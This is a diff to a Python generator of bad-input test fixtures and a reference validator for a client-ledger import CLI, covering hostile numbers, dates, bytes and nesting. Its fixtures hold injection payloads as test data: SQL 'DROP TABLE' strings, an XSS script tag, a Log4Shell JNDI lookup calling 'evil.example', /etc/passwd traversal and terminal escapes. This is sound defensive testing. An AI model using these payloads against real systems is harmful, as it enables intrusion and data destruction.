@@ -7,6 +7,8 @@ Writes into Tests/ClientLedgerCLITests/BadInput/:
   cases.json              [{"file", "exit", "contains", "why"}] (+ "generate" for cases built by the test)
   valid-sql-strings.jsonl valid lines holding SQL-looking and non-ASCII text
   accepted.json           [{"file", "events", "why"}]
+  valid-injection-every-field.jsonl, valid-crlf.jsonl, hostile-accepted.json
+                          accepted hostile text and CRLF endings (read by Tests/ReliabilityTests)
 
 Then it re-reads every file and runs a small reference validator (a model of the import rules in
 SPEC.md §2–§4 and the error-message conventions) over it: base and the accepted files must pass,
@@ -132,9 +134,9 @@ BASE_TRADE_C100 = BASE[11]
 CASES = []
 
 
-def case(nn, short, lines, contains, why, exit_code=65, ext="jsonl"):
+def case(nn, short, lines, contains, why, exit_code=65, ext="jsonl", crlf=False):
     CASES.append({"nn": nn, "name": f"{nn:02d}-{short}.{ext}", "lines": lines,
-                  "contains": contains, "why": why, "exit": exit_code})
+                  "contains": contains, "why": why, "exit": exit_code, "crlf": crlf})
 
 
 def k(nn, what):
@@ -543,6 +545,231 @@ case(n, "adjust-zero-points",
                             {"points": 0, "reason": "goodwill", "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
      ["line {n}, field data.points:"], "PointsAdjusted points must be non-zero")
 
+# --- hostile numbers (issue 5) ------------------------------------------------------------
+
+n = 55
+c, r = new_client(n)
+case(n, "nan-literal",
+     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("NaN")})), c101_visit(n)],
+     ["line {n}: malformed JSON"], "NaN is not a JSON literal (RFC 8259); it must never reach a money field")
+
+n = 56
+c, r = new_client(n)
+case(n, "infinity-literal",
+     [r, deposit(n, c, "2026-03-02T10:00:00Z"),
+      Bad(ev(k(n, "bad"), "TradeExecuted", c, "2026-03-03T10:00:00Z",
+             {"orderId": "O-256-1", "productId": "EQ-600519", "notional": Raw("Infinity")}, OMS))],
+     ["line {n}: malformed JSON"], "Infinity is not a JSON literal")
+
+n = 57
+case(n, "minus-infinity-points",
+     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C100", "2026-03-04T10:00:00Z",
+                            {"points": Raw("-Infinity"), "reason": "goodwill", "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
+     ["line {n}: malformed JSON"], "-Infinity is not a JSON literal")
+
+n = 58
+case(n, "points-1e999",
+     [c100_contact(n), Bad(ev(k(n, "bad"), "PointsRedeemed", "C100", "2026-03-04T10:00:00Z",
+                             {"points": Raw("1e999"), "reward": "coffee voucher"}, {"actor": "loyalty-app"}))],
+     ["line {n}, field data.points:"], "1e999 is valid number syntax but overflows every integer and double; a field error, never inf")
+
+n = 59
+c, r = new_client(n)
+case(n, "amount-minus-zero",
+     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("-0")})), deposit(n, c, "2026-03-03T10:00:00Z")],
+     ["line {n}, field data.amount:"], "-0 is zero: amounts must be greater than 0")
+
+n = 60
+case(n, "points-huge-integer",
+     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C101", "2026-03-04T10:00:00Z",
+                            {"points": Raw("123456789012345678901234567890"), "reason": "goodwill", "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
+     ["line {n}, field data.points:"], "a 30-digit integer overflows Int64; points are at most 1,000,000,000,000")
+
+n = 61
+case(n, "points-2-pow-63",
+     [c100_contact(n), Bad(ev(k(n, "bad"), "PointsRedeemed", "C100", "2026-03-04T10:00:00Z",
+                             {"points": Raw("9223372036854775808"), "reward": "tea set"}, {"actor": "loyalty-app"}))],
+     ["line {n}, field data.points:"], "2^63, one more than Int64.max: must not wrap to a negative number")
+
+n = 62
+case(n, "redeem-negative-points",
+     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsRedeemed", "C100", "2026-03-04T10:00:00Z",
+                            {"points": Raw("-50"), "reward": "tea set"}, {"actor": "loyalty-app"}))],
+     ["line {n}, field data.points:"], "a negative redemption would mint points")
+
+n = 63
+case(n, "adjust-fractional-points",
+     [c100_contact(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C101", "2026-03-04T10:00:00Z",
+                             {"points": Raw("2.5"), "reason": "goodwill", "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
+     ["line {n}, field data.points:"], "points are whole numbers")
+
+n = 64
+case(n, "adjust-minus-zero-points",
+     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C100", "2026-03-04T10:00:00Z",
+                            {"points": Raw("-0"), "reason": "goodwill", "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
+     ["line {n}, field data.points:"], "-0 is zero: an adjustment of 0 points is refused")
+
+# --- hostile dates ---------------------------------------------------------------------
+
+n = 65
+c, r = new_client(n)
+case(n, "occurred-at-year-0001",
+     [r, Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "0001-01-01T00:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS)),
+      deposit(n, c, "2026-03-03T10:00:00Z")],
+     ["line {n}, field occurredAt:"], "year 1 is outside the supported years 1900–9999")
+
+n = 66
+case(n, "occurred-at-year-10000",
+     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "10000-01-01T00:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS))],
+     ["line {n}, field occurredAt:"], "a five-digit year is not ISO-8601's fixed-width form and is outside 1900–9999")
+
+n = 67
+case(n, "occurred-at-year-1899",
+     [c101_visit(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C100", "1899-12-31T23:59:59Z", {"channel": "app", "kind": "inquiry"}, OMS)),
+      c100_contact(n)],
+     ["line {n}, field occurredAt:"], "the last second of 1899 is before the supported range")
+
+# --- bytes and nesting -----------------------------------------------------------------
+
+n = 68
+nul_in_string = dump(reg(k(n, "bad"), "C268", "2026-03-02T10:00:00Z", "Li@@Na", "retail", "ordinary", "SH-Pudong", CRM)).encode()
+nul_in_string = nul_in_string.replace(b"@@", b"\x00")
+case(n, "nul-byte-in-string", [c101_visit(n), Bad(nul_in_string), c100_contact(n)],
+     ["line {n}: malformed JSON"], "a raw NUL byte inside a string is an unescaped control character", ext="bin")
+
+n = 69
+nul_between = dump(c100_contact(n, tag="bad")).encode().replace(b',"type"', b',\x00"type"')
+case(n, "nul-byte-between-tokens", [c101_visit(n), c100_contact(n, "2026-03-05T09:00:00Z", "contact-2"), Bad(nul_between)],
+     ["line {n}: malformed JSON"], "a raw NUL byte between two members is not JSON white space", ext="bin")
+
+n = 70
+c, r = new_client(n)
+case(n, "escaped-nul-in-name",
+     [r, Bad(ev(k(n, "bad"), "ClientProfileUpdated", c, "2026-03-02T10:00:00Z", {"name": "Li\u0000Na"}, CRM))],
+     ["line {n}, field data.name:"], "\\u0000 is valid JSON but a control character; text fields refuse it (it would truncate C strings)")
+
+n = 71
+deep = "[" * 1000 + "]" * 1000
+c, r = new_client(n)
+case(n, "deep-nesting-1000-arrays",
+     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("100.00"), "x": Raw(deep)})),
+      c101_visit(n)],
+     ["line {n}: malformed JSON"], "1000 nested arrays: refused by the parser's depth limit (64), without exhausting the stack")
+
+n = 72
+deep_object = '{"a":' * 1000 + "1" + "}" * 1000
+case(n, "deep-nesting-1000-objects", [c100_contact(n), Bad(deep_object)],
+     ["line {n}: malformed JSON"], "a line that is 1000 nested objects")
+
+n = 73
+c, r = new_client(n)
+case(n, "crlf-bad-line",
+     [r, risk(n, c, "2026-03-01T10:00:00Z"),
+      Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("10.001")})), c101_visit(n)],
+     ["line {n}, field data.amount:"], "CRLF line endings are valid; the bad line is still named by its number", crlf=True)
+
+n = 74
+case(n, "only-whitespace-crlf", ["", " ", "\t", "  \t "], ["empty"],
+     "blank lines with CRLF endings (CR, spaces, tabs): counts as empty", crlf=True)
+
+# --- injection strings in fields that refuse them -----------------------------------------
+
+INJ = "x'); DROP TABLE events;--"
+n = 75
+case(n, "injection-segment",
+     [c101_visit(n), Bad(reg(k(n, "bad"), "C275", "2026-03-02T10:00:00Z", "Ma Lin", INJ, "ordinary", "SH-Lujiazui", CRM))],
+     ["line {n}, field data.segment:"], "an SQL-looking segment is not one of the three segments")
+
+n = 76
+case(n, "injection-channel",
+     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "2026-03-04T10:00:00Z", {"channel": INJ, "kind": "inquiry"}, CRM))],
+     ["line {n}, field data.channel:"], "an SQL-looking channel")
+
+n = 77
+c, r = new_client(n)
+case(n, "injection-risk-level",
+     [r, Bad(ev(k(n, "bad"), "RiskAssessed", c, "2026-03-02T10:00:00Z", {"level": "C1' OR '1'='1", "score": 10}, CRM))],
+     ["line {n}, field data.level:"], "an SQL-looking risk level")
+
+n = 78
+case(n, "injection-event-id",
+     [c101_visit(n), Bad(ev(None, "InteractionLogged", "C100", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS,
+                            event_id="00000000-0000-4000-8000-000000000000'; DELETE FROM events;--"))],
+     ["line {n}, field eventId:"], "an eventId with SQL appended is not a UUID")
+
+n = 79
+case(n, "injection-occurred-at",
+     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "2026-03-04T10:00:00Z'; DROP TABLE events;--", {"channel": "app", "kind": "inquiry"}, OMS))],
+     ["line {n}, field occurredAt:"], "a timestamp with SQL appended")
+
+n = 80
+c, r = new_client(n)
+case(n, "injection-data-key",
+     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("100.00"), INJ: 1}))],
+     ["line {n}, field data." + INJ + ":"], "an SQL-looking key in data is an unknown field, named as given")
+
+n = 81
+case(n, "injection-metadata-key",
+     [c101_visit(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C100", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"},
+                            {"actor": "oms", INJ: "x"}))],
+     ["line {n}, field metadata." + INJ + ":"], "an SQL-looking key in metadata is an unknown field")
+
+n = 82
+case(n, "injection-expected-version",
+     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS,
+                             extra={"expectedVersion": "1; DROP TABLE events"}))],
+     ["line {n}, field expectedVersion:"], "expectedVersion as SQL-looking text, not a number")
+
+n = 83
+c, r = new_client(n)
+case(n, "injection-schema-version",
+     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("100.00")}, extra={"schemaVersion": "1 OR 1=1"}))],
+     ["line {n}, field schemaVersion:"], "schemaVersion as SQL-looking text")
+
+n = 84
+c, r = new_client(n)
+case(n, "injection-product-id-newline",
+     [r, deposit(n, c, "2026-03-02T10:00:00Z"),
+      Bad(ev(k(n, "bad"), "ProductPurchased", c, "2026-03-03T10:00:00Z", {"productId": "MMF-01\n" + INJ, "amount": Raw("100.00")}, OMS))],
+     ["line {n}, field data.productId:"], "an escaped newline in a productId is a control character (log-line injection)")
+
+n = 85
+c, r = new_client(n)
+case(n, "injection-order-id-too-long",
+     [r, deposit(n, c, "2026-03-02T10:00:00Z"),
+      Bad(ev(k(n, "bad"), "TradeExecuted", c, "2026-03-03T10:00:00Z",
+             {"orderId": "O-" + INJ * 3, "productId": "EQ-600519", "notional": Raw("100.00")}, OMS))],
+     ["line {n}, field data.orderId:"], "orderId longer than 64 characters")
+
+n = 86
+case(n, "injection-client-id-unicode",
+     [c101_visit(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C100\u202e'--", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS))],
+     ["line {n}, field clientId:"], "a clientId with a right-to-left override and SQL: not an identifier")
+
+n = 87
+case(n, "injection-type-homoglyph",
+     [c100_contact(n), Bad(ev(k(n, "bad"), "Interacti\u043enLogged", "C101", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS))],
+     ["line {n}, field type:"], "a Cyrillic o in the type name: an unknown type, not InteractionLogged")
+
+n = 88
+case(n, "injection-reason-control",
+     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C101", "2026-03-04T10:00:00Z",
+                            {"points": 10, "reason": "goodwill\u001b[2J" + INJ, "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
+     ["line {n}, field data.reason:"], "an ANSI escape (ESC, a control character) in reason: terminal injection")
+
+n = 89
+case(n, "injection-metadata-actor-too-long",
+     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"},
+                             {"actor": INJ * 10}))],
+     ["line {n}, field metadata.actor:"], "metadata.actor longer than 200 characters")
+
+n = 90
+c, r = new_client(n)
+case(n, "injection-campaign-id-on-client-event",
+     [r, Bad(ev(k(n, "bad"), "FundsDeposited", None, "2026-03-02T10:00:00Z", {"amount": Raw("100.00")}, omit=("clientId",),
+                extra={"campaignId": INJ}))],
+     ["line {n}, field clientId:"], "campaignId (SQL-looking) given on a client event instead of clientId")
+
 # ---------------------------------------------------------------------------------------------
 # Accepted: SQL-looking and non-ASCII text stored verbatim. Self-contained (new clients C3xx).
 
@@ -566,11 +793,67 @@ ACCEPTED = [
 ]
 
 # ---------------------------------------------------------------------------------------------
+# Accepted (issue 5): injection strings in every free-text field of a client event, stored
+# verbatim; and a CRLF file. Self-contained (clients C401, C402, C410). Read by ReliabilityTests.
+
+I1 = "Robert'); DROP TABLE events;--"
+I2 = "\" OR \"\"=\""
+I3 = "<script>alert('x')</script>"
+I4 = "${jndi:ldap://evil.example/a}"
+I5 = "../../../../etc/passwd"
+I6 = "%s%s%n%x"
+I7 = "\\'; DELETE FROM events WHERE '1'='1"
+I8 = "{\"$ne\": null}"
+I9 = "\u202egnp.exe \u2028 \ufeff a\u200bb"
+I10 = "😀 张伟 Zoë"
+I11 = "NULL"
+I12 = "Robert\u00a0Tables -- /* */"
+INJECTION_STRINGS = [I1, I2, I3, I4, I5, I6, I7, I8, I9, I10, I11, I12]
+ALL_META = {"actor": I4, "channel": I5, "correlationId": I6, "causationId": I7}
+ACCEPTED_INJECTION = [
+    reg("inj/C401/registered", "C401", "2026-04-01T09:00:00Z", I1, "retail", "ordinary", I3, ALL_META),
+    ev("inj/C401/risk", "RiskAssessed", "C401", "2026-04-01T10:00:00Z", {"level": "C3", "score": 50}, {"actor": I8}),
+    ev("inj/C401/deposit", "FundsDeposited", "C401", "2026-04-02T09:00:00Z", {"amount": money("200000.00")}, {"correlationId": I9}),
+    ev("inj/C401/trade", "TradeExecuted", "C401", "2026-04-02T10:00:00Z",
+       {"orderId": I2, "productId": I5, "notional": money("50000.00")}, {"actor": I10, "channel": I12}),
+    ev("inj/C401/purchase", "ProductPurchased", "C401", "2026-04-03T09:00:00Z", {"productId": I1, "amount": money("1000.00")}, {"actor": I11}),
+    ev("inj/C401/redeem-product", "ProductRedeemed", "C401", "2026-04-04T09:00:00Z", {"productId": I1}, {"causationId": I2}),
+    ev("inj/C401/redeem-points", "PointsRedeemed", "C401", "2026-04-05T09:00:00Z", {"points": 100, "reward": I8}, {"actor": I7}),
+    ev("inj/C401/adjust-up", "PointsAdjusted", "C401", "2026-04-06T09:00:00Z", {"points": 25, "reason": I6, "approvedBy": I7}, {"actor": I3}),
+    ev("inj/C401/adjust-down", "PointsAdjusted", "C401", "2026-04-07T09:00:00Z", {"points": -10, "reason": I3, "approvedBy": I4}, {"channel": I9}),
+    ev("inj/C401/profile", "ClientProfileUpdated", "C401", "2026-04-08T09:00:00Z", {"name": I9, "branch": I10}, {"actor": I12}),
+    ev("inj/C401/interaction", "InteractionLogged", "C401", "2026-04-09T09:00:00Z", {"channel": "wechat", "kind": "complaint"}, {"actor": I11, "channel": I2}),
+    reg("inj/C402/registered", "C402", "2026-04-10T09:00:00Z", "null", "institutional", "professional", I11, {"actor": I1}),
+    ev("inj/C402/offboarded", "ClientOffboarded", "C402", "2026-04-11T09:00:00Z", {"reason": I1 + " " + I2}, {"actor": I5}),
+]
+CRLF_LINES = [
+    reg("crlf/C410/registered", "C410", "2026-04-01T09:00:00Z", "Qian Yu", "retail", "ordinary", "SZ-Nanshan", CRM),
+    ev("crlf/C410/risk", "RiskAssessed", "C410", "2026-04-01T10:00:00Z", {"level": "C2", "score": 30}, CRM),
+    "",
+    ev("crlf/C410/deposit", "FundsDeposited", "C410", "2026-04-02T09:00:00Z", {"amount": money("30000.00")}, {"actor": "core-banking"}),
+    # no eventId: the ledger derives one from the line's bytes, without its CR
+    ev("crlf/C410/interaction", "InteractionLogged", "C410", "2026-04-03T09:00:00Z", {"channel": "phone", "kind": "inquiry"}, CRM,
+       omit=("eventId",)),
+    ev("crlf/C410/trade", "TradeExecuted", "C410", "2026-04-04T09:00:00Z",
+       {"orderId": "O-410-1", "productId": "EQ-600519", "notional": money("12000.00")}, OMS),
+]
+HOSTILE_ACCEPTED = [
+    {"file": "valid-injection-every-field.jsonl", "events": len(ACCEPTED_INJECTION), "crlf": False,
+     "why": ("SQL, script, template, path, format-string, JSON-operator, bidi/zero-width and emoji strings in every "
+             "free-text field of every client event type (name, branch, orderId, productId, reward, reason, approvedBy, "
+             "and metadata actor/channel/correlationId/causationId): each is stored byte for byte")},
+    {"file": "valid-crlf.jsonl", "events": sum(1 for l in CRLF_LINES if l != ""), "crlf": True,
+     "why": ("CRLF line endings and a blank CRLF line are valid JSON Lines; a line without eventId gets the same "
+             "derived id as the same line with an LF ending")},
+]
+
+# ---------------------------------------------------------------------------------------------
 # Writing
 
 
-def write_lines(path, lines):
-    data = b"".join(render(l) + b"\n" for l in lines)
+def write_lines(path, lines, crlf=False):
+    end = b"\r\n" if crlf else b"\n"
+    data = b"".join(render(l) + end for l in lines)
     with open(path, "wb") as f:
         f.write(data)
     return data
@@ -579,10 +862,17 @@ def write_lines(path, lines):
 def build():
     os.makedirs(OUT, exist_ok=True)
     for name in os.listdir(OUT):
-        if re.match(r"^\d\d-.*\.(jsonl|bin)$", name) or name in ("cases.json", "accepted.json", "base.jsonl", "valid-sql-strings.jsonl"):
+        if re.match(r"^\d\d-.*\.(jsonl|bin)$", name) or name in (
+                "cases.json", "accepted.json", "base.jsonl", "valid-sql-strings.jsonl", "hostile-accepted.json",
+                "valid-injection-every-field.jsonl", "valid-crlf.jsonl"):
             os.remove(os.path.join(OUT, name))
     write_lines(os.path.join(OUT, "base.jsonl"), BASE)
     write_lines(os.path.join(OUT, "valid-sql-strings.jsonl"), ACCEPTED)
+    write_lines(os.path.join(OUT, "valid-injection-every-field.jsonl"), ACCEPTED_INJECTION)
+    write_lines(os.path.join(OUT, "valid-crlf.jsonl"), CRLF_LINES, crlf=True)
+    with open(os.path.join(OUT, "hostile-accepted.json"), "w", encoding="utf-8") as f:
+        json.dump(HOSTILE_ACCEPTED, f, ensure_ascii=False, indent=2)
+        f.write("\n")
     manifest = []
     for c in CASES:
         lines = c["lines"]
@@ -593,7 +883,7 @@ def build():
         if not plain:
             open(path, "wb").close()
         else:
-            write_lines(path, plain)
+            write_lines(path, plain, crlf=c["crlf"])
         contains = [s.replace("{n}", str(bad_at[0])) if bad_at else s for s in c["contains"]]
         manifest.append({"file": c["name"], "exit": c["exit"], "contains": contains, "why": c["why"]})
         if c["nn"] == 41:
@@ -669,9 +959,19 @@ def is_num(v):
     return isinstance(v, (int, Decimal)) and not isinstance(v, bool)
 
 
-def check_value(kind, v):
+# Longest text of each free-text field, in Unicode scalars (metadata values: 200).
+MAX_TEXT = {"name": 200, "branch": 100, "orderId": 64, "productId": 64, "reward": 200, "reason": 200, "approvedBy": 100}
+MAX_POINTS = 10 ** 12
+
+
+def valid_text(v, limit):
+    """Non-empty, at most `limit` scalars, no control characters (U+0000–U+001F, U+007F)."""
+    return isinstance(v, str) and v != "" and len(v) <= limit and not any(ord(ch) < 0x20 or ord(ch) == 0x7F for ch in v)
+
+
+def check_value(kind, v, field=None):
     if kind == "str":
-        return isinstance(v, str) and v != ""
+        return valid_text(v, MAX_TEXT.get(field, 200))
     if kind == "bool":
         return isinstance(v, bool)
     if isinstance(kind, tuple):
@@ -686,9 +986,9 @@ def check_value(kind, v):
     if kind == "nps":
         return is_int(v) and 0 <= v <= 10
     if kind == "posint":
-        return is_int(v) and v > 0
+        return is_int(v) and 0 < v <= MAX_POINTS
     if kind == "nonzeroint":
-        return is_int(v) and v != 0
+        return is_int(v) and v != 0 and abs(v) <= MAX_POINTS
     raise AssertionError(kind)
 
 
@@ -716,9 +1016,36 @@ def earn(type_, data):
     return 0
 
 
+MAX_DEPTH = 64
+
+
+def nesting_depth(text):
+    """Deepest nesting of arrays and objects, ignoring brackets inside strings."""
+    depth = deepest = 0
+    in_string = escaped = False
+    for ch in text:
+        if in_string:
+            if escaped:
+                escaped = False
+            elif ch == "\\":
+                escaped = True
+            elif ch == '"':
+                in_string = False
+        elif ch == '"':
+            in_string = True
+        elif ch in "[{":
+            depth += 1
+            deepest = max(deepest, depth)
+        elif ch in "]}":
+            depth -= 1
+    return deepest
+
+
 def strict_loads(text):
     def no_constant(c):
         raise ValueError(c)
+    if nesting_depth(text) > MAX_DEPTH:
+        raise ValueError("nested more than 64 deep")
     return json.loads(text, parse_float=Decimal, parse_constant=no_constant)
 
 
@@ -789,7 +1116,7 @@ def import_bytes(raw, state):
                 if required:
                     bad(f"data.{key}", "missing")
                 continue
-            if not check_value(kind, data[key]):
+            if not check_value(kind, data[key], key):
                 bad(f"data.{key}", "invalid")
         if type_ == "ClientProfileUpdated" and not data:
             bad("data", "nothing to update")
@@ -801,6 +1128,8 @@ def import_bytes(raw, state):
                 bad(f"metadata.{key}", "unknown field")
             if not isinstance(v, str):
                 bad(f"metadata.{key}", "not a string")
+            if not valid_text(v, 200):
+                bad(f"metadata.{key}", "empty, too long or holding control characters")
         # stored id: idempotent only when identical
         canon = json.dumps(obj, sort_keys=True, default=str)
         if eid is not None and eid in st.ids:
@@ -847,6 +1176,13 @@ def check(manifest):
     for line in base_raw.decode().splitlines():
         obj = json.loads(line)
         assert obj["eventId"] == obj["eventId"].lower() and UUID_RE.match(obj["eventId"])
+    for entry in json.load(open(os.path.join(OUT, "hostile-accepted.json"))):
+        raw = open(os.path.join(OUT, entry["file"]), "rb").read()
+        lines = [l for l in raw.split(b"\n") if l.strip() != b""]
+        assert len(lines) == entry["events"], entry["file"]
+        assert (b"\r\n" in raw) == entry["crlf"], entry["file"]
+        import_bytes(raw, State())
+        import_bytes(raw, base)
     for entry in json.load(open(os.path.join(OUT, "accepted.json"))):
         raw = open(os.path.join(OUT, entry["file"]), "rb").read()
         assert raw.count(b"\n") == entry["events"]
@@ -854,7 +1190,8 @@ def check(manifest):
         import_bytes(raw, base)
     # Every eventId appears once across the corpus, except the two deliberate reuses.
     counts = {}
-    files = ["base.jsonl", "valid-sql-strings.jsonl"] + [e["file"] for e in manifest if "generate" not in e]
+    files = (["base.jsonl", "valid-sql-strings.jsonl", "valid-injection-every-field.jsonl", "valid-crlf.jsonl"]
+             + [e["file"] for e in manifest if "generate" not in e])
     for name in files:
         for m in re.finditer(rb'"eventId":"([^"]*)"', open(os.path.join(OUT, name), "rb").read()):
             counts.setdefault(m[1].decode(), []).append(name)
@@ -880,7 +1217,7 @@ def check(manifest):
             if r.exit != e["exit"] or not all(s in r.msg for s in e["contains"]):
                 problems.append(f"{e['file']}: got exit {r.exit} '{r.msg}', want {e['exit']} {e['contains']}")
         # Every line but the bad one must be valid on its own terms: drop the bad line and import again.
-        if e["file"].endswith(("empty.jsonl", "blank-lines.jsonl")) or "generate" in e:
+        if e["file"].endswith(("empty.jsonl", "blank-lines.jsonl", "whitespace-crlf.jsonl")) or "generate" in e:
             continue
         m = re.match(r"line (\d+)", e["contains"][0])
         bad_no = int(m[1])
@@ -890,7 +1227,7 @@ def check(manifest):
             import_bytes(rest, base)
         except Reject as r:
             problems.append(f"{e['file']}: other lines not valid: {r.msg}")
-        if b"\r" in raw:
+        if b"\r" in raw and "crlf" not in e["file"]:
             problems.append(f"{e['file']}: CR found")
     return problems
 
